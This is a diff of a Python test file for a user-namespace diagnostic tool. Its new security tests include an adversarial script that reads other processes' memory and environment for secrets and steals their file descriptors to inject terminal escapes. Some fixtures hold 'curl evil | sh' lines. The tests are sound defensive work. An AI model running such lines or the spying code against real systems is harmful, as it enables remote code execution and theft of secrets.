@@ -2,20 +2,25 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shutil
+import subprocess
 import sys
 import time
-from collections.abc import Mapping, Sequence
+from collections.abc import Iterator, Mapping, Sequence
 from errno import EPERM
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from pyunshare.doctor import checks as doctor_module
+from pyunshare.diagnostics.system import System
+from pyunshare.doctor import checks
 from pyunshare.doctor.__main__ import run
 from pyunshare.doctor.report import Outcome
+from pyunshare.errors import ReportedFailure
 from tests.helpers import support
 from tests.helpers.machine import needs
 from tests.helpers.support import (
@@ -98,7 +103,7 @@ def test_all_is_well_in_words() -> None:
         assert [line.split()[-2:] for line in result.lines if option in line] == [["works"] * 2]
     assert "  user.max_net_namespaces " in text
     assert "  newuidmap" in text
-    assert result.lines[-1] == "Verdict: all that the user nobody could expect works."
+    assert result.lines[-1] == "Verdict: all that can be expected works for root and nobody"
 
 
 @needs("newuidmap", "newgidmap")
@@ -154,7 +159,10 @@ def test_a_limit_of_zero_is_found() -> None:
 
     text = in_launch("echo 0 >/proc/sys/user/max_net_namespaces").stdout.decode()
     assert "\n  type: sysctl -w user.max_net_namespaces=" in text
-    verdict = "Verdict: what could be expected to work, and does not: -n --net"
+    verdict = (
+        "Verdict: what could be expected to work, and does not: -n --net; nothing could be tried "
+        "as nobody"
+    )
     assert text.splitlines()[-1] == verdict
 
 
@@ -201,8 +209,8 @@ def test_helpers_that_are_missing_are_no_fault_of_a_user_without_ids() -> None:
 
 @needs("newuidmap", "newgidmap")
 def test_a_helper_that_hangs_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(doctor_module, "PATIENCE", 1)
-    found = doctor_module._attempted(["-f"], lambda: time.sleep(PATIENCE))
+    monkeypatch.setattr(checks, "PATIENCE", 1)
+    found = checks._tried(["-f"], System(), lambda pipe: time.sleep(PATIENCE))
     assert (found.works, found.message) == (False, "did not end in 1 seconds")
 
 
@@ -213,11 +221,11 @@ def test_the_check_up_in_this_process(
     assert run(["--json"]) == 0
     assert json.loads(capfd.readouterr().out)["works"] is True
 
-    def refuse(options: list[str], become: object) -> Outcome:
+    def refuse(options: list[str], *others: object) -> Outcome:
         works = not {"--net", "--ipc"} & set(options)
         return Outcome(works, "no", "the cause", ["mend it"])
 
-    monkeypatch.setattr(doctor_module, "_attempted", refuse)
+    monkeypatch.setattr(checks, "_tried", refuse)
     monkeypatch.setenv("SUDO_UID", "61003")
     assert run([]) == 1
     lines = capfd.readouterr().out.splitlines()
@@ -226,37 +234,189 @@ def test_the_check_up_in_this_process(
     assert lines[-1].endswith(": -i --ipc, -n --net")
 
     monkeypatch.setattr(os, "geteuid", lambda: 61003)
-    monkeypatch.setattr(doctor_module, "_attempted", lambda *_: Outcome(True, "", "", []))
+    monkeypatch.setattr(checks, "_tried", lambda *_: Outcome(True))
     assert run([]) == 0
     lines = capfd.readouterr().out.splitlines()
     assert "  -n --net            not tried   works" in lines
-    assert lines[-1] == "Verdict: all that the user 61003 could expect works."
+    assert lines[-1] == "Verdict: all that can be expected works for 61003"
 
 
 @pytest.mark.parametrize(
-    ("status", "lines", "expected"),
+    ("record", "expected"),
     [
-        (0, [], Outcome(True, "", "", [])),
-        (1, ["x: a: b"], Outcome(False, "a: b", "", [])),
-        (
-            1,
-            ["newuidmap: c", "x: hint: why", "x: hint: type: d   or: e"],
-            Outcome(False, "c", "why", ["d", "e"]),
-        ),
-        (-9, [], Outcome(False, "killed by SIGKILL", "", [])),
+        (b"0 1 1 unshare \n", ("unshare", EPERM, "", 1, False)),
+        (b"1 127 0 helper newuidmap\n", ("helper", None, "newuidmap", 127, True)),
+        (b"0 1 1 write /proc/PID/uid_map\n", ("write", EPERM, "/proc/PID/uid_map", 1, False)),
+        (b"0 1 1 type: curl\n", ("", EPERM, "", 1, False)),
+        (b"0 1 1 curl|sh \n", ("", EPERM, "", 1, False)),
+        (b"0 1 1 mount /\x1b[2J\n", ("mount", EPERM, "", 1, False)),
+        (b"0 1 99999 mount /\n", None),
+        (b"0 1 1 type: curl evil | sh\n", None),
+        (b"", None),
     ],
 )
-def test_what_a_launch_has_told(status: int, lines: list[str], expected: Outcome) -> None:
-    assert doctor_module._outcome(status, lines) == expected
+def test_what_a_child_may_say(record: bytes, expected: tuple[object, ...] | None) -> None:
+    found = checks.parse_record(record)
+    if expected is None:
+        assert found is None
+    else:
+        assert found is not None
+        is_reported = isinstance(found, ReportedFailure)
+        assert (found.step, found.errno, found.path, found.status, is_reported) == expected
 
 
 def test_who_is_tried_beside_root(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SUDO_UID", "61003")
-    assert doctor_module.ordinary_user().pw_name == "61003"
-    monkeypatch.setenv("SUDO_UID", "root")
-    assert doctor_module.ordinary_user().pw_uid == doctor_module.NOBODY
+    assert checks.ordinary_user().name == "61003"
+    for given in ("root", "", "0", "\u00b2", "-1", "4294967295", "9" * 20, "9" * 5000):
+        monkeypatch.setenv("SUDO_UID", given)
+        assert checks.ordinary_user().uid == checks.NOBODY
     monkeypatch.setattr(os, "getuid", lambda: 0o777777)
-    assert doctor_module.ordinary_user().pw_uid == 0o777777
+    assert checks.ordinary_user().uid == 0o777777
+
+
+# ---- safety -------------------------------------------------------------------------------------
+
+# A process of the user whom root's check-up tries: it looks into each process of that user, and
+# takes and writes to what they have open; or it only stops them.
+SPY = r"""
+import ctypes, glob, os, signal, sys, time
+library = ctypes.CDLL(None)
+PIDFD_OPEN, PIDFD_GETFD = 434, 438
+taken = []
+def spy(pid):
+    if sys.argv[1] == "stop":
+        os.kill(pid, signal.SIGSTOP)
+        return
+    for file in ("environ", "mem"):
+        try:
+            with open(f"/proc/{pid}/{file}", "rb", 0) as content:
+                spans = [(0, 1 << 20)]
+                if file == "mem":
+                    lines = open(f"/proc/{pid}/maps").read().splitlines()
+                    spans = [line.split()[0].split("-") for line in lines if " rw" in line]
+                    spans = [[int(number, 16) for number in span] for span in spans]
+                for begin, end in spans:
+                    content.seek(begin)
+                    if b"top" + b"secret" in content.read(end - begin):
+                        print("found a secret in", file, flush=True)
+        except (OSError, ValueError):
+            pass
+    pidfd = library.syscall(PIDFD_OPEN, pid, 0)
+    for fd in range(10):
+        own = library.syscall(PIDFD_GETFD, pidfd, fd, 0)
+        if own >= 0:
+            print("took", os.readlink(f"/proc/self/fd/{own}").partition(":")[0], flush=True)
+            try:
+                os.write(own, b"\x1b[2Jx: y\nx: hint: z\nx: hint: type: curl evil | sh\n")
+            except OSError:
+                pass
+            taken.append(own)
+print("ready", flush=True)
+seen = {os.getpid()}
+while True:
+    for path in glob.glob("/proc/[0-9]*"):
+        pid = int(path[6:])
+        try:
+            if pid not in seen and os.stat(path).st_uid == os.getuid():
+                spy(pid)
+                if sys.argv[1] == "stop" or len(taken) > 200:
+                    seen.add(pid)
+        except OSError:
+            pass
+"""
+
+
+@contextlib.contextmanager
+def spying(how: str) -> Iterator[subprocess.Popen[bytes]]:
+    """A process of an ordinary user that looks at the others of that user."""
+    user = support.user_condition(WITHOUT_SUBORDINATE_IDS)
+    python = "/usr/bin/python3"
+    line = [str(support.compiled("start")), user, "--", python, python, "-Ic", SPY, how]
+    with support.popen(line) as process:
+        assert process.stdout
+        assert process.stdout.readline() == b"ready\n"
+        try:
+            yield process
+        finally:
+            process.kill()
+
+
+TRIES_THE_SPY = {"SUDO_UID": str(WITHOUT_SUBORDINATE_IDS.uid), "SECRET": "topsecret"}
+
+
+def test_root_is_told_nothing_by_the_user_who_is_tried() -> None:
+    conditions = support.database_conditions()
+    with spying("take") as spy:
+        for _ in range(3):
+            result = examine(conditions=conditions, environment=TRIES_THE_SPY)
+            assert b"evil" not in result.stdout + result.stderr
+            assert b"\x1b" not in result.stdout + result.stderr
+            assert b"hint" not in result.stdout
+        spy.kill()
+        assert spy.stdout
+        said = spy.stdout.read()
+    assert b"secret" not in said
+    assert b"/dev/pts" not in said
+
+
+def test_a_user_who_stops_what_is_tried_stops_nothing_else() -> None:
+    with spying("stop"):
+        begin = time.monotonic()
+        code = (
+            "from pyunshare.doctor import checks; checks.PATIENCE = 0.5; "
+            "from pyunshare.doctor.__main__ import run; run([])"
+        )
+        line = [sys.executable, "-c", code]
+        environment = {**support.ENVIRONMENT, **TRIES_THE_SPY, "PYTHONPATH": str(support.CHECKOUT)}
+        result = support.run(line, environment=environment)
+        assert time.monotonic() - begin < PATIENCE
+    assert result.status in (0, 1), result
+    assert b"Verdict: " in result.stdout
+    assert result.stderr == b""
+
+
+def test_nothing_is_taken_from_the_working_directory(tmp_path: Path) -> None:
+    """Without -I Python itself may take a module from there, but the check-up takes none."""
+    tmp_path.chmod(0o755)
+    for name in ("argparse", "json", "signal", "pwd", "shutil", "platform", "os", "ctypes"):
+        (tmp_path / f"{name}.py").write_text("raise SystemExit('TRAPPED')\n")
+    program = doctor()
+    line = [program.file, *program.arguments]
+    environment = {**support.ENVIRONMENT, **dict(program.environment)}
+    done = subprocess.run(line, cwd=tmp_path, env=environment, capture_output=True, check=False)
+    assert b"TRAPPED" not in done.stdout + done.stderr
+    assert b"Verdict: " in done.stdout
+
+
+@pytest.mark.parametrize("given", ["9" * 20, "9" * 5000, "\u00b2", "x", "4294967294"])
+def test_a_user_who_cannot_be_is_not_said_to_have_been_tried(given: str) -> None:
+    conditions = support.database_conditions()
+    result = examine(conditions=conditions, environment={"SUDO_UID": given})
+    assert result.stderr == b""
+    if given == "4294967294":
+        assert " works for root and 4294967294; " in result.lines[-1]
+    else:
+        assert result.lines[-1] == "Verdict: all that can be expected works for root and nobody"
+
+
+def test_who_cannot_be_tried_is_said_so() -> None:
+    last = in_launch("true").stdout.decode().splitlines()[-1]
+    assert last.endswith("; nothing could be tried as nobody")
+
+
+def test_a_python_without_ctypes() -> None:
+    code = (
+        "import sys; sys.modules['_ctypes'] = sys.modules['ctypes'] = None; "
+        "from pyunshare.doctor.__main__ import run; sys.exit(run(sys.argv[1:]))"
+    )
+    environment = {**support.ENVIRONMENT, "PYTHONPATH": str(support.CHECKOUT)}
+    result = support.run([sys.executable, "-c", code], environment=environment)
+    assert result.status == 1
+    assert result.stderr == b""
+    assert "This Python has no ctypes, without which few launches work" in result.stdout.decode()
+    result = support.run([sys.executable, "-c", code, "--json"], environment=environment)
+    assert json.loads(result.stdout)["ctypes"] is False
 
 
 def test_bad_arguments_get_one_line() -> None:
@@ -271,4 +431,4 @@ def test_output_that_cannot_be_written() -> None:
     with open("/dev/full", "wb") as full:
         result = support.start(doctor(), [], stdout=full.fileno())
     assert result.status == 1
-    assert result.stderr == (b"python3 -m pyunshare.doctor: write error: No space left on device\n")
+    assert result.stderr == (b"pyunshare.doctor: write error: No space left on device\n")
